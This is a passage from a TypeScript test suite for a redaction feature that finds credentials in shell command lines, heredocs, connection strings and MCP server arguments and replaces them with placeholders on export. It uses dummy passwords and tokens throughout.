    expect(withoutSecrets("${DB_PASSWORD:-${DB_PASSWORD}}", "DB_PASSWORD")).toBe(
      "${DB_PASSWORD:-${DB_PASSWORD}}",
    );
    expect(withoutSecrets("${DB_PASSWORD:-Tr0ub4dor3x}", "DB_PASSWORD", () => "HIDDEN")).toBe(
      "${DB_PASSWORD:-HIDDEN}",
    );
    // Nothing in clear: not flagged, after the export too.
    expect(findSpecSecrets(withServer({ env: { DB_PASSWORD: "${DB_PASSWORD:-${DB_PASSWORD}}" } }))).toEqual(
      [],
    );
    expect(findSpecSecrets(exportSpec(spec))).toEqual([]);
  });

  it("reads a deeply nested default in one pass", async () => {
    const deep = (n: number) => `${"${A:-".repeat(n)}pw${"}".repeat(n)}`;
    const values = new Map([3_125, 50_000].map((n) => [n, deep(n)]));
    // 50,000 levels against 3,125, timed in the same run: about 16 in one pass, 256 when each level
    // is read again from its start; the bound is four times from each (a ratio of two timings moved
    // 3 to 4 times on a loaded CI host).
    expect(
      await growth((n) => withoutArgSecrets(["--password", values.get(n) as string]), 3_125, 16),
    ).toBeLessThan(64);
    expect(withoutArgSecrets(["--password", deep(50_000)])[1]).toBe(
      `${"${A:-".repeat(50_000)}\${PASSWORD}${"}".repeat(50_000)}`,
    );
  });
});

describe("the command-line reader fails safe: what it may have mis-read as data is still read for secrets (r37)", () => {
  const S = "Tr0ub4dor3xQ9";

  // Old code: `Token <value>` matched inside `gh-token --verbose` (-> `gh-${SECRET}`) and
  // `get-token --password X` (-> `get-${SECRET} ${PASSWORD}`).
  it.each([
    ["gh-token --verbose", "gh-token --verbose"],
    [`get-token --password ${S}`, "get-token --password ${PASSWORD}"],
    ["exec get_token --refresh-all --port 8080", "exec get_token --refresh-all --port 8080"],
    [
      `cat <<EOF\nrun get-token --password ${S}\nEOF\nexec srv`,
      "cat <<EOF\nrun get-token --password ${PASSWORD}\nEOF\nexec srv",
    ],
  ])("reads no Authorization value inside a command's own words in %j (r37 #8)", (line, safe) => {
    if (SCRIPT.test(line)) return expectWholeLine(line);
    expectHidden(line, safe);
  });

  // Each row kept S in clear on the old code (r37's repros), while bash runs `srv` with it or a
  // file is written holding it.
  it.each([
    // #1: the delimiter as bash takes it: a CRLF script's `EOF\r`, `<<\EOF`, and arithmetic's `<<`.
    [
      `cat > /dev/null <<EOF\r\nport=80\r\nEOF\r\nexec srv --password ${S}\r\n`,
      "cat > /dev/null <<EOF\r\nport=80\r\nEOF\r\nexec srv --password ${PASSWORD}\r\n",
    ],
    [
      `X=$(cat <<EOF\r\nport=80\r\nEOF\r\n)\r\nexec srv --password ${S}\r\n`,
      "X=$(cat <<EOF\r\nport=80\r\nEOF\r\n)\r\nexec srv --password ${PASSWORD}\r\n",
    ],
    [
      `cat <<\\EOF > /dev/null\nport=80\nEOF\nexec srv --password ${S}\n`,
      "cat <<\\EOF > /dev/null\nport=80\nEOF\nexec srv --password ${PASSWORD}\n",
    ],
    [
      `X=$(cat <<\\EOF\nport=80\nEOF\n)\nexec srv --password ${S}`,
      "X=$(cat <<\\EOF\nport=80\nEOF\n)\nexec srv --password ${PASSWORD}",
    ],
    [`((n = 1 << 4))\nexec srv --password ${S}`, "((n = 1 << 4))\nexec srv --password ${PASSWORD}"],
    [`echo $[1<<2]\nexec srv --password ${S}`, "echo $[1<<2]\nexec srv --password ${PASSWORD}"],
    [`(( n <<= 2 ))\nexec srv --password ${S}`, "(( n <<= 2 ))\nexec srv --password ${PASSWORD}"],
    [
      `for ((i=1; i < 1<<3; i<<=1)); do :; done\nexec srv --password ${S}`,
      "for ((i=1; i < 1<<3; i<<=1)); do :; done\nexec srv --password ${PASSWORD}",
    ],
    [
      `if (( (1<<4) > 8 )); then :; fi\nexec srv --password ${S}`,
      "if (( (1<<4) > 8 )); then :; fi\nexec srv --password ${PASSWORD}",
    ],
    // #7: a heredoc's body and a comment hold words the reader reads as any others. (A body's
    // `name: X`, JSON and TOML lines it no longer reads: a shell's own command holding one is
    // exported whole, see shell-command-export.test.ts.)
    [
      `cat > /etc/app.conf <<EOF\nDB_PASSWORD=${S}\nport=80\nEOF\nexec srv --config /etc/app.conf`,
      "cat > /etc/app.conf <<EOF\nDB_PASSWORD=${DB_PASSWORD}\nport=80\nEOF\nexec srv --config /etc/app.conf",
    ],
    [
      `cat > /app/.env <<'EOF'\nAPI_KEY=${S}\nEOF\nexec node server.js`,
      "cat > /app/.env <<'EOF'\nAPI_KEY=${API_KEY}\nEOF\nexec node server.js",
    ],
    [
      `cat > /etc/app.conf <<EOF\ntoken=$(get-token --password ${S})\nEOF\nexec srv`,
      "cat > /etc/app.conf <<EOF\ntoken=$(get-token --password ${PASSWORD})\nEOF\nexec srv",
    ],
    [
      `cat > a <<EOF\nDB_PASSWORD=\${DB_PASSWORD:-${S}}\nEOF\nexec srv`,
      "cat > a <<EOF\nDB_PASSWORD=${DB_PASSWORD:-${DB_PASSWORD}}\nEOF\nexec srv",
    ],
    [`# it's here: DB_PASSWORD=${S}\nexec srv`, "# it's here: DB_PASSWORD=${DB_PASSWORD}\nexec srv"],
    [`#exec srv --password ${S}\nexec srv`, "#exec srv --password ${PASSWORD}\nexec srv"],
    // #2: a literal default one level down (or more): the innermost word.
    [
      `exec srv --password \${DB_PASSWORD:-\${DB_PASS:-${S}}}`,
      "exec srv --password ${DB_PASSWORD:-${DB_PASS:-${PASSWORD}}}",
    ],
    [
      `exec srv --password "\${DB_PASSWORD:-\${DB_PASS:-${S}}}"`,
      'exec srv --password "${DB_PASSWORD:-${DB_PASS:-${PASSWORD}}}"',
    ],
    [
      `DB_PASSWORD=\${A:-\${B:-\${C:-${S}}}} exec srv`,
      "DB_PASSWORD=${A:-${B:-${C:-${DB_PASSWORD}}}} exec srv",
    ],
    [
      `exec srv \${PGPASSWORD:-\${POSTGRES_PASSWORD:-${S}}}`,
      "exec srv ${PGPASSWORD:-${POSTGRES_PASSWORD:-${POSTGRES_PASSWORD}}}",
      // The export: not the name of a variable the line already reads (r42a #9).
      "exec srv ${PGPASSWORD:-${POSTGRES_PASSWORD:-${POSTGRES_PASSWORD_2}}}",
    ],
    // #5: a quote left open at the end: the text after it is read again as words.
    [`echo don't; exec srv --password ${S}`, "echo don't; exec srv --password ${PASSWORD}"],
    [`X=$(echo a; exec srv --password ${S}`, "X=$(echo a; exec srv --password ${PASSWORD}"],
  ])(
    "reads %j as bash does, or fails safe (a script exported whole: fix113), and hides the secret (r37 #1, #7, #2, #5)",
    (line, safe, exported = safe) => {
      if (SCRIPT.test(line)) return expectWholeLine(line);
      expectHidden(line, safe, undefined, exported);
      expectStable(safe);
      expectStable(exported);
      expectFlaggedOnce(line);
    },
  );

  it.each([
    // #4: an argument that merely holds spaces has no comment and no heredoc.
    [
      ["--extra", `--note #1 --password ${S}`],
      ["--extra", "--note #1 --password ${PASSWORD}"],
    ],
    // A line break or a `<<` makes it a script, exported whole (fix113).
    [
      ["--extra", `--mask 1<<4\n --password ${S}`],
      ["--extra", "${SHELL_COMMAND}"],
    ],
    [
      ["--extra", `--note 'it's #1 --password ${S}`],
      ["--extra", "--note 'it's #1 --password ${PASSWORD}"],
    ],
    // #5: PowerShell's escaped quote, read with sh's rules, leaves a quote open: read again (a
    // pwsh -Command command itself is exported whole: shell-command-export.test.ts).
    [
      ["--extra", `Write-Host \`"starting\`"; & srv --password ${S}`],
      ["--extra", 'Write-Host `"starting`"; & srv --password ${PASSWORD}'],
    ],
  ])("reads %j with no comment or heredoc, and fails safe (r37 #4, #5)", (args, safe) => {
    expect(withoutArgSecrets(args)).toEqual(safe);
    expect(withoutArgSecrets(safe)).toEqual(safe);
    const spec = withServer({ command: "srv", args });
    expect(findSpecSecrets(spec)).toHaveLength(1);
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual(
      safe.map((arg) => arg.replace("${SHELL_COMMAND}", "${SRV_COMMAND}")),
    );
  });

  it("reads an argument that merely holds spaces with no comment or heredoc, a script exported whole (property, r37 #4, fix113)", () => {
    const ordinary = fc.constantFrom(
      "--note",
      "#1",
      "#alerts",
      "--channel",
      "1<<4",
      "<<EOF",
      "x\nEOF",
      "--verbose",
      "80",
    );
    const value = fc.stringMatching(/^[A-Za-z0-9]{6,12}[0-9][a-z]$/);
    const secret: fc.Arbitrary<[string, string]> = fc.oneof(
      value.map((s): [string, string] => ["--password ", s]),
      value.map((s): [string, string] => ["--token=", s]),
      value.map((s): [string, string] => ["DB_PASSWORD=", s]),
    );
    const part = fc.oneof(
      ordinary.map((word): [string, string] => [word, ""]),
      secret,
    );
    fc.assert(
      fc.property(
        fc.array(fc.tuple(part, fc.constantFrom(" ", "\n")), { minLength: 2, maxLength: 10 }),
        (parts) => {
          // (Starting with no assignment: a telling `NAME=two words` outside a shell is taken whole.)
          let arg = "--note ";
          let expected = "--note ";
          for (const [[before, hidden], gap] of parts) {
            arg += before + hidden + gap;
            expected += before + (hidden === "" ? "" : "HIDDEN") + gap;
          }
          const [, hidden] = withoutArgSecrets(["--extra", arg], () => "HIDDEN");
          if (!SCRIPT.test(arg)) expect(hidden).toBe(expected);
          // A script: kept byte for byte, or whole when it may hold a credential, whenever it holds one.
          else if (expected !== arg) expect(hidden).toBe("HIDDEN");
          else expect([arg, "HIDDEN"]).toContain(hidden);
        },
      ),
      propertyRuns(200),
    );
  });

  // References, YAML's empty values, placeholders and a comment's prose are kept as they are:
  // shell-command-export.test.ts's TELLING_NO_SECRET.

  // Old code: a quoted word's own whitespace was read for key shapes only (the `Token <value>`
  // shape caught `--token X` by accident, as `--${SECRET}`); now its words are read too, each
  // value there only when it reads as a credential.
  // (A pasted `bash -c '…'` is a shell's own command, kept or replaced whole: shell-command-export.test.ts.)
  it.each([
    [`watch -n 5 'srv --api-key ${S}'`, "watch -n 5 'srv --api-key ${API_KEY}'"],
    [`watch -n 5 'exec srv --token ${S}'`, "watch -n 5 'exec srv --token ${TOKEN}'"],
    [`X=$(get-token --password ${S})\nexec srv`, "X=$(get-token --password ${PASSWORD})\nexec srv"],
    [
      `su app -c "exec srv --password=${S} --port 80"`,
      'su app -c "exec srv --password=${PASSWORD} --port 80"',
    ],
  ])("reads the words inside a quote or a substitution holding whitespace in %j", (line, safe) => {
    if (SCRIPT.test(line)) return expectWholeLine(line);
    expectHidden(line, safe);
    expectStable(safe);
    expectFlaggedOnce(line);
  });
});

describe("one pass hides everything: a connection string is one word of pairs, a script is exported whole (fix113)", () => {
  const S = "S3cret99x";
  const key = "ghp_abcdefghijklmnopqrstuvwxyz0123";

  /** `arg` as a plain argument and as a pasted command: written `safe` in one pass, which is a fixed point flagged nowhere. */
  function expectOnePass(arg: string, safe: string, safeCommand = safe): void {
    const once = withoutArgSecrets(["--run", arg]);
    expect(once).toEqual(["--run", safe]);
    expect(withoutArgSecrets(once)).toEqual(once);
    expect(findSpecSecrets(withServer({ args: once }))).toEqual([]);
    const spec = withServer({ args: ["--run", arg] });
    expect(findSpecSecrets(spec).map((hint) => hint.path)).toEqual(["bundle.mcpServers[0].args[1]"]);
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual(
      once.map((text) => text.replace("${SHELL_COMMAND}", "${SRV_COMMAND}")),
    );
    expect(exportedLine(arg)).toBe(safeCommand);
    expect(findSpecSecrets(pasted(safeCommand))).toEqual([]);
    expectFlaggedOnce(arg);
  }

  // Defect 1 (fix109): a line holding `;` was read as a connection string first, its first words
  // taken for a pair's name (`exec GITHUB_TOKEN=X a;b` → `exec GITHUB_TOKEN=${EXEC_GITHUB_TOKEN};b`,
  // ` a` dropped), and what the pairs' reading missed left in clear for a second pass.
  it.each([
    ["exec GITHUB_TOKEN=0AAAA00a a;b ", "exec GITHUB_TOKEN=${GITHUB_TOKEN} a;b "],
    [
      `exec db-mcp --conn Server=db;Password=${S}; && GITHUB_TOKEN=${key} exec gh`,
      "exec db-mcp --conn Server=db;Password=${PASSWORD}; && GITHUB_TOKEN=${GITHUB_TOKEN} exec gh",
    ],
    [
      `exec srv --conn "Server=db;Password=${S}" --token hunter2x9;echo`,
      'exec srv --conn "Server=db;Password=${PASSWORD}" --token ${TOKEN};echo',
    ],
    [`exec srv --token abc123x9 --port 80;echo`, "exec srv --token ${TOKEN} --port 80;echo"],
  ])("reads %j, with words around a `;`, as a command line", (line, safe) => {
    expectOnePass(line, safe);
  });

  // fix130 #3: in a pasted command line, which a shell reads, a part whose value goes on with a
  // flag or a quoted word is no pair, so only the secrets' characters are replaced. r46 R1: an
  // argument reaches no shell, so there a pair's value runs to its `;` whatever it holds, and is
  // hidden whole.
  it.each([
    [
      `postgres://app:${S}@db/app ; GITHUB_TOKEN=Aaa00A0a --token $'aA0aAA0a' `,
      "postgres://db/app ; GITHUB_TOKEN=${GITHUB_TOKEN} ",
      "postgres://db/app ; GITHUB_TOKEN=${GITHUB_TOKEN} --token $'${TOKEN}' ",
    ],
    [
      `Server=db;Password=${S} --token hunter2x9`,
      "Server=db;Password=${PASSWORD}",
      "Server=db;Password=${PASSWORD} --token ${TOKEN}",
    ],
    [
      `Server=db;Password=${S} "two words"`,
      "Server=db;Password=${PASSWORD}",
      'Server=db;Password=${PASSWORD} "two words"',
    ],
    [
      "Server=db;Password=correct horse -battery staple;",
      "Server=db;Password=${PASSWORD};",
      "Server=db;Password=${PASSWORD} horse -battery staple;",
    ],
    [
      "Server=db;User=sa;Password=pa ss -w0rd",
      "Server=db;User=sa;Password=${PASSWORD}",
      "Server=db;User=sa;Password=${PASSWORD} ss -w0rd",
    ],
  ])(
    "hides a connection string's whole value in the argument %j, up to its `;` (r46 R1)",
    (line, safe, safeCommand) => {
      expectOnePass(line, safe, safeCommand);
    },
  );

  it("exports a connection string given as one argument with its whole password hidden (r46 R1)", () => {
    const spec = withServer({ args: ["Server=db;Password=correct horse -battery staple;"] });
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual(["Server=db;Password=${PASSWORD};"]);
    expect(JSON.stringify(exportSpec(spec))).not.toContain("horse");
  });

  it("exports the property's counterexample, two assignments around a `;` and a flag, with only the values replaced (fix130 #3)", () => {
    const line = "GITHUB_TOKEN=00a00a0a ; GITHUB_TOKEN=Aaa00A0a --token $'aA0aAA0a' ";
    expect(exportedLine(line)).toBe(
      "GITHUB_TOKEN=${GITHUB_TOKEN} ; GITHUB_TOKEN=${GITHUB_TOKEN_2} --token $'${TOKEN}' ",
    );
    expect(findSpecSecrets(pasted(line)).map((hint) => hint.sign)).toEqual([SecretSign.Flag]);
  });

  it.each([
    // ADO's keys of several words, values with spaces, braces holding a `;`.
    [`Data Source=db;User Id=sa;Password=${S} two;`, "Data Source=db;User Id=sa;Password=${PASSWORD};"],
    [
      `Driver={ODBC Driver 18};Server=db;Pwd={a;b ${S}}`,
      "Driver={ODBC Driver 18};Server=db;Pwd=${PWD_SECRET}",
    ],
    // A key shape in another pair's value, a URL's credentials in the first part: in the same pass.
    [`Server=db; Password=${S}; App=${key}`, "Server=db; Password=${PASSWORD}; App=${SECRET}"],
    // What the pairs leave is read as a command line too.
    [
      `Server=db;Password=${S};Application Name=x --token hunter2x9`,
      "Server=db;Password=${PASSWORD};Application Name=x --token ${TOKEN}",
    ],
  ])("reads %j, one word of `key=value` pairs, as a connection string", (line, safe) => {
    expectOnePass(line, safe);
  });

  it("reads a connection string with no whitespace the same way, in one pass", () => {
    for (const [arg, safe] of [
      [`Server=db;Password=${S};App=${key}`, "Server=db;Password=${PASSWORD};App=${SECRET}"],
      [`postgres://app:${S}@db;Password=Y1234abcd`, "postgres://db;Password=${PASSWORD}"],
    ] as const) {
      const once = withoutArgSecrets(["--conn", arg]);
      expect(once).toEqual(["--conn", safe]);
      expect(withoutArgSecrets(once)).toEqual(once);
      expect(findSpecSecrets(withServer({ args: once }))).toEqual([]);
    }
  });

  // Defect 2 (fix109): fix107 took heredoc bodies out of the command-line reader, so a pasted
  // command or a plain argument holding one (or YAML, JSON, TOML lines) kept its password.
  it.each([
    ["a heredoc's YAML body", "cat > c.yml <<EOF\npassword: Tr0ub4dor3xQ9\nEOF\nexec srv --config c.yml"],
    [
      "a quoted heredoc, CRLF",
      "cat > app.yaml <<'EOF'\r\ndb:\r\n  password: Tr0ub4dor3xQ9\r\nEOF\r\nexec srv\r\n",
    ],
    ["JSON lines", '{\n  "db": {\n    "password": "Tr0ub4dor3xQ9"\n  }\n}'],
    ["TOML lines", '[db]\nhost = "db"\npassword = "Tr0ub4dor3xQ9"\n'],
    ["a heredoc on one line's `<<`", "srv --config-from <<EOF password: Tr0ub4dor3xQ9"],
  ])("exports %s, pasted or as an argument, whole", (_what, text) => {
    expectOnePass(text, "${SHELL_COMMAND}", "${SRV_COMMAND}");
    expect(findSpecSecrets(pasted(text))[0]?.sign).toBe(SecretSign.Script);
    const hidden: [string, string | undefined][] = [];
    withoutArgSecrets(["--config", text], (secret, name) => {
      hidden.push([secret, name]);
      return "<hidden>";
    });
    expect(hidden).toEqual([[text, "SHELL_COMMAND"]]);
  });

  it("keeps a script with no heredoc that says nothing of a credential byte for byte; a heredoc is exported whole", () => {
    const text = "# start it\nexec srv --port 80";
    expect(withoutArgSecrets(["--run", text])).toEqual(["--run", text]);
    expect(exportedLine(text)).toBe(text);
    expect(findSpecSecrets(pasted(text))).toEqual([]);
    expectOnePass("cat > motd <<EOF\nhello\nEOF\nexec srv", "${SHELL_COMMAND}", "${SRV_COMMAND}");
  });

  it("hides every generated secret in one pass, and that pass is a fixed point (property)", () => {
    const value = fc.stringMatching(/^[A-Za-z0-9]{6,12}[0-9][a-z]$/);
    const keyShape = fc.stringMatching(/^[A-Za-z0-9]{36}$/).map((tail) => `ghp_${tail}`);
    const secret = fc.oneof(
      value.map((s) => [`Password=${s}`, s] as const),
      value.map((s) => [`GITHUB_TOKEN=${s}`, s] as const),
      value.map((s) => [`--token ${s}`, s] as const),
      value.map((s) => [`Pwd={${s}}`, s] as const),
      value.map((s) => [`postgres://app:${s}@db/app`, s] as const),
      keyShape.map((s) => [`App=${s}`, s] as const),
      value.map((s) => [`cat <<EOF\npassword: ${s}\nEOF\n`, s] as const),
    );
    const plain = fc.constantFrom(
      "exec",
      "srv",
      "a",
      "Server=db",
      "User Id=sa",
      "Data Source=db",
      "--port 80",
      "&&",
      "b",
    );
    const part = fc.oneof(
      plain.map((word) => [word, ""] as const),
      secret,
    );
    fc.assert(
      fc.property(
        fc.array(fc.tuple(part, fc.constantFrom(";", " ", "; ", " ;")), { minLength: 1, maxLength: 8 }),
        (parts) => {
          const line = parts.map(([[text], gap]) => text + gap).join("");
          const values = parts.map(([[, s]]) => s).filter((s) => s !== "");
          for (const args of [["--run", line], [line]]) {
            const once = withoutArgSecrets(args);
            expect(withoutArgSecrets(once)).toEqual(once);
            expect(findSpecSecrets(withServer({ args: once }))).toEqual([]);
            for (const s of values) expect(once.join("\n")).not.toContain(s);
          }
          const out = exportSpec(pasted(line));
          expect(findSpecSecrets(out)).toEqual([]);
          for (const s of values) expect(JSON.stringify(out)).not.toContain(s);
        },
      ),
      propertyRuns(300),
    );
  });
});
